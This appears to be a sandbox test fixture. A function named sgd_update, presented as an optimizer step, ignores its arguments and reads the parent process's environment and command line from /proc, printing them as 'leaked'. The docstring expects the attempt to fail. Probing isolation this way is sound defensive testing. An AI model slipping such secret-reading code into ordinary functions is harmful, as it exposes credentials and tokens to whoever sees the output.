# studykit: optimizers/sgd_update
"""Looks for secrets in the environment and the arguments of its parent.

Expect: not passed
"""

import os


def sgd_update(params, lr):
    for name in ("environ", "cmdline"):
        print("leaked", open(f"/proc/{os.getppid()}/{name}", errors="replace").read())
